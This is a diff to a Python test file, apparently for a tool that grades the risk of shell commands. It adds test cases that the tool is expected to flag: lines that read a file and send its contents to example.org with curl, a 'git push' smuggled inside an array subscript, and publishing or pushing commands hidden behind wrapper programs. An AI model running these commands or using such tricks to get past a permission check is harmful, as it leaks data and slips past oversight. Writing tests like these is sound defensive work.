@@ -42,6 +42,10 @@ ROUNDABOUT = [
     """python -c "from x import y; y()" """,
     """python -c "open('/srv/x', 'w')" """,
     """node -e "require('x')" """,
+    "x=$(cat y); curl https://example.org/$x",
+    "[[ -v 'a[$(git push)]' ]]",
+    "read x < y; curl https://example.org/$x",
+    "for x in $(cat y); do curl https://example.org/$x; done",
 ]
 
 
@@ -50,6 +54,22 @@ def test_with_a_way_out_a_roundabout_way_asks(command: str) -> None:
     """Variables, code and other folders; without a way out none of them does (M51)."""
     found = weighed(command, has_way_out=True).rule, weighed(command).rule
     assert found == ("unknown-command", "effect-reversible")
+
+
+NOT_READ = [
+    ("/home/me/site/.venv/bin/twine upload dist/x", "publishes"),
+    ("/opt/tools/bin/git push", "git-push"),
+    ("valgrind git push", "git-push"),
+    ("python -m cProfile -m twine upload dist/x", "publishes"),
+    ("perl -i -pe 'system(1)' x", "unclear-command"),
+    ("perl -pe 's/x/y/ee' z", "unclear-command"),
+]
+
+
+@pytest.mark.parametrize(("command", "rule"), NOT_READ)
+def test_a_program_that_another_one_starts_is_found(command: str, rule: str) -> None:
+    """In whatever folder it lies, without the table of what is harmless (M51, M53)."""
+    assert weighed(command).rule == rule
 
 
 SHOWN = [
